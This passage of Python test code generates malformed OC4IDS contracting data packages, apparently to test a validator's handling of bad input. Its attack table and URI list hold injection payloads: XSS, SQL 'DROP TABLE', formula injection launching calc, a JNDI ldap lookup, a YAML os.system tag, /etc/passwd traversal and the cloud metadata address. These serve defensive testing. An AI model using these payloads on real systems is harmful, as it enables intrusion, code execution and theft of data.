        "party-text": ("parties", ["Constructora"]),
        "party-id-list": ("parties", [{"id": ["1"]}]),
        "party-id-object": ("parties", [{"id": {"a": 1}}]),
        "reference-list": ("publicAuthority", [{"id": "1"}]),
        "reference-id-object": ("publicAuthority", {"id": {"a": [1]}}),
        "geometry-null": ("locations", [{"id": "1", "geometry": None}]),
        "geometry-text": ("locations", [{"id": "1", "geometry": "POINT(-76 3)"}]),
        "coordinates-text": (
            "locations",
            [{"id": "1", "geometry": {"type": "Point", "coordinates": "3.4,-76.5"}}],
        ),
        "coordinates-of-text": (
            "locations",
            [{"id": "1", "geometry": {"type": "Point", "coordinates": ["-76.5", "3.4"]}}],
        ),
        "coordinates-null": (
            "locations",
            [{"id": "1", "geometry": {"type": "Point", "coordinates": [None, None]}}],
        ),
        "coordinates-true": (
            "locations",
            [{"id": "1", "geometry": {"type": "Point", "coordinates": [True, False]}}],
        ),
        "coordinates-object": (
            "locations",
            [{"id": "1", "geometry": {"type": "Point", "coordinates": {"lat": 3}}}],
        ),
        "geometry-type-list": (
            "locations",
            [{"id": "1", "geometry": {"type": ["Point"], "coordinates": [-76, 3]}}],
        ),
        "gazetteer-number": ("locations", [{"id": "1", "gazetteer": {"scheme": 1, "identifiers": 3687925}}]),
        "date-number": ("period", {"startDate": 1704085200}),
        "date-list": ("period", {"startDate": ["2024-01-01T00:00:00Z"]}),
        "date-object": ("period", {"startDate": {"$date": "2024"}}),
        "days-float": ("period", {"durationInDays": 1.5}),
        "url-list": ("documents", [{"id": "1", "url": ["https://example.org"]}]),
        "document-id-number": ("documents", [{"id": 1}, {"id": True}, {"id": 1.0}, {"id": "1"}]),
        "nature-nested": ("contractingProcesses", [{"id": "1", "summary": {"nature": [["construction"]]}}]),
        "summary-list": ("contractingProcesses", [{"id": "1", "summary": []}]),
        "tender-text": ("contractingProcesses", [{"id": "1", "summary": {"tender": "abierta"}}]),
        "tenderers-text": (
            "contractingProcesses",
            [{"id": "1", "summary": {"tender": {"tenderers": ["Uno"]}}}],
        ),
        "modification-null": ("contractingProcesses", [{"id": "1", "summary": {"modifications": [None]}}]),
        "release-text": ("contractingProcesses", [{"id": "1", "releases": ["https://example.org/r.json"]}]),
        "observations-object": ("metrics", [{"id": "physicalProgress", "observations": {"id": "1"}}]),
        "measure-list": (
            "metrics",
            [{"id": "physicalProgress", "observations": [{"id": "1", "measure": [50]}]}],
        ),
        "frequency-negative": ("budget/finance", [{"id": "1", "paymentFrequency": -1}]),
        "people-text": ("benefits", [{"beneficiaries": [{"numberOfPeople": "muchas"}]}]),
        "cost-null": ("costMeasurements", [{"id": "1", "costGroups": [{"id": "1", "costs": [None]}]}]),
        "party-role-number": ("parties", [{"id": "1", "roles": [1]}]),
    }
    for name, (path, value) in deep.items():
        add(f"type-{name}", at(path, value), "invalid")
    for name, value in {
        "publisher-null": {"publisher": None},
        "publisher-text": {"publisher": "Alcaldía"},
        "publisher-list": {"publisher": []},
        "version-number": {"version": 0.9},
        "version-null": {"version": None},
        "uri-null": {"uri": None},
        "license-list": {"license": []},
        "date-null": {"publishedDate": None},
    }.items():
        add(f"type-{name}", changed(lambda package, value=value: package.update(value)), "invalid")


# -- texts that attack whoever shows or stores them -------------------------------------------------------------


def every_text(value: Any, words: str) -> Any:
    """The same value with every text of it, except codes the standard needs, replaced."""
    if isinstance(value, dict):
        return {key: every_text(each, words) for key, each in value.items()}
    if isinstance(value, list):
        return [every_text(each, words) for each in value]
    return words if isinstance(value, str) else value


def every_key(value: Any, words: str) -> Any:
    """The same value with ``words`` added to every object as a further key."""
    if isinstance(value, dict):
        return {key: every_key(each, words) for key, each in value.items()} | {words: words}
    return [every_key(each, words) for each in value] if isinstance(value, list) else value


ATTACKS = {
    "script": SCRIPT,
    "image": '"><img src=x onerror=alert(1)>',
    "single-quote-attribute": "' onmouseover='alert(1)",
    "closing-textarea": "</textarea></title></style><svg onload=alert(1)>",
    "comment": "--><script>alert(1)</script>",
    "cdata": "]]><script>alert(1)</script>",
    "script-in-json": "</script><script>alert(1)</script>",
    "markdown-link": "[ver](javascript:alert(1))",
    "javascript-url": "javascript:alert(document.cookie)",
    "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "jinja": "{{ 7*7 }}{% for x in () %}{{ config }}{% endfor %}",
    "percent": "%(value)s %s %d %n %(missing)s %",
    "braces": "{0.__class__.__mro__} {value!r} {}",
    "dollar": "${jndi:ldap://example.org/a} $(id) `id`",
    "sql": "'; DROP TABLE package; --",
    "solr": '*:* OR id:"x" AND {!func}sleep(9) \\',
    "formula-equals": '=HYPERLINK("http://example.org","ver")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-tab": "\t=1+1",
    "formula-full-width": "＝1+1",
    "crlf": "x\r\nSet-Cookie: a=b\r\n\r\n<p>",
    "nul": "a\x00b",
    "escape-codes": "\x1b[31mrojo\x1b[0m\x07",
    "path": "../../../../etc/passwd",
    "windows-path": "C:\\Windows\\system32\\..\\x",
    "slashes": "//example.org/%2e%2e%2f?x=1#y",
    "rtl": "\u202egnp.otcejorp\u202c",
    "zero-width": "a\u200b\u200c\u200d\u2060\ufeffb",
    "only-zero-width": "\u200b\u200b",
    "line-separators": "a\u2028b\u2029c\x85d",
    "noncharacters": "a\ufffe\uffffb\U0001ffff",
    "zalgo": "o" + "\u0301" * 400,
    "emoji": "👷🏽‍♀️🚧🇨🇴",
    "private-use": "\ue000\U000f0000",
    "nbsp": "\xa0\u3000",
    "long-word": "a" * 30_000,
    "yaml": "!!python/object/apply:os.system ['id']",
    "xml-entity": "&lt;script&gt; &#x3c; &amp;amp;",
    "json-pointer": "a/b~c~0~1",
}


def attacks() -> None:
    for name, words in ATTACKS.items():
        add(f"attack-{name}-in-title", project_with(title=words, description=words, purpose=words), "any")
        add(f"attack-{name}-as-id", project_with(id=words), "any")
    for name in ("script", "percent", "jinja", "formula-equals", "rtl", "nul", "crlf", "escape-codes"):
        words = ATTACKS[name]
        # no database of text takes U+0000
        outcome: Outcome = "unreadable" if name == "nul" else "invalid"
        add(
            f"attack-{name}-in-every-text",
            lambda words=words: generate.encode(every_text(base(), words)),
            outcome,
        )
        add(
            f"attack-{name}-in-every-key",
            lambda words=words: generate.encode(every_key(base(), words)),
            "any",
        )
        full = generate.package([generate.project(3, "large")])
        add(
            f"attack-{name}-in-all-paths",
            lambda words=words, full=full: generate.encode(every_text(full, words)),
            outcome,
        )
    for key in (
        "__proto__",
        "constructor",
        "$ref",
        "$schema",
        "",
        " ",
        ".",
        "/",
        "~",
        "a/b",
        "#",
        "projects",
        "0",
        "-1",
        "None",
        "%s",
    ):
        add(
            f"key-{key.encode().hex() or 'empty'}",
            project_with(**{key: {"$ref": "http://127.0.0.1/x", "id": "http://127.0.0.1/"}}),
            "any",
        )
    add(
        "key-ref-in-shell",
        changed(lambda package: package.update({"$ref": "http://127.0.0.1/secret.json"})),
        "any",
    )
    add(
        "ids-by-case",
        changed(
            lambda package: package.update(projects=[{"id": "oc4ids-zz9999-a"}, {"id": "oc4ids-zz9999-A"}])
        ),
        "any",
    )
    add(
        "ids-by-form",
        changed(
            lambda package: package.update(
                projects=[{"id": "oc4ids-zz9999-ó"}, {"id": "oc4ids-zz9999-o\u0301"}]
            )
        ),
        "any",
    )
    add(
        "ids-by-space",
        changed(
            lambda package: package.update(projects=[{"id": "oc4ids-zz9999-1"}, {"id": "oc4ids-zz9999-1 "}])
        ),
        "any",
    )
    add(
        "ids-one-and-true",
        changed(lambda package: package.update(projects=[{"id": 1}, {"id": True}, {"id": 1.0}, {"id": "1"}])),
        "invalid",
    )


def odd_values() -> None:
    dates = {
        "year-zero": "0000-01-01T00:00:00Z",
        "year-9999": "9999-12-31T23:59:59Z",
        "year-10000": "10000-01-01T00:00:00Z",
        "negative-year": "-0001-01-01T00:00:00Z",
        "leap-second": "2016-12-31T23:59:60Z",
        "false-leap-second": "2024-05-05T12:00:60Z",
        "hour-24": "2024-01-01T24:00:00Z",
        "february-30": "2024-02-30T00:00:00Z",
        "february-29": "2023-02-29T00:00:00Z",
        "lower-case": "2024-01-01t00:00:00z",
        "space": "2024-01-01 00:00:00Z",
        "no-zone": "2024-01-01T00:00:00",
        "date-only": "2024-01-01",
        "day-first": "01/02/2024",
        "epoch": "1704085200",
        "offset-99": "2024-01-01T00:00:00+99:99",
        "offset-no-colon": "2024-01-01T00:00:00-0500",
        "offset-seconds": "2024-01-01T00:00:00-05:00:30",
        "offset-day": "2024-01-01T00:00:00+23:59",
        "negative-zero-offset": "2024-01-01T00:00:00-00:00",
        "arabic-digits": "٢٠٢٤-٠١-٠١T00:00:00Z",
        "newline": "2024-01-01T00:00:00Z\n",
        "fraction": "2024-01-01T00:00:00.123456789012345678901234567890Z",
        "comma-fraction": "2024-01-01T00:00:00,5Z",
        "spanish": "1 de enero de 2024",
        "empty": "",
        "week": "2024-W01-1T00:00:00Z",
    }
    for name, value in dates.items():
        add(f"date-{name}", at("period", {"startDate": value, "endDate": value}), "any")
        add(
            f"date-shell-{name}",
            changed(lambda package, value=value: package.update(publishedDate=value)),
            "any",
        )
    uris = {
        "spaces": "https://example.org/a b.pdf",
        "bare": "www.cali.gov.co",
        "no-host": "http://",
        "file": "file:///etc/passwd",
        "ftp": "ftp://example.org/x",
        "mailto": "mailto:a@example.org",
        "urn": "urn:isbn:1",
        "ipv6-open": "http://[::1",
        "newline": "https://example.org/\n",
        "backslash": "https:\\\\example.org\\x",
        "password": "https://u:p@example.org/",
        "unicode-host": "https://alcaldía.example/ñ",
        "metadata": "http://169.254.169.254/latest/meta-data/",
        "angle": "https://example.org/<x>",
        "port": "https://example.org:99999999/",
        "javascript": "javascript:alert(1)",
        "empty": "",
    }
    for name, value in uris.items():
        add(f"uri-{name}", at("documents", [{"id": "1", "url": value}]), "any")
    for name, value in {
        "plain": "a",
        "display": "Ana <a@example.org>",
        "two": "a@b@c",
        "space": "a b@example.org",
        "idn": "ñ@ñ.co",
    }.items():
        add(f"email-{name}", at("parties", [{"id": "1", "people": [{"id": "1", "email": value}]}]), "any")
    for name, value in {
        "text": "0.9.5",
        "one": "1.1",
        "newline": "0.9\n",
        "empty": "",
        "arabic": "٠.٩",
        "spaces": " 0.9",
    }.items():
        add(f"version-{name}", changed(lambda package, value=value: package.update(version=value)), "invalid")


def kinds() -> Iterator[Kind]:
    """Every kind, in order of name."""
    return iter(sorted(KINDS.values(), key=lambda kind: kind.name))


for family in (
    encodings,
    emptiness,
    syntax,
    truncations,
    duplicates,
    nesting,
    other_formats,
    compressed,
    slow_shapes,
    wrong_types,
    attacks,
    odd_values,
):
    family()
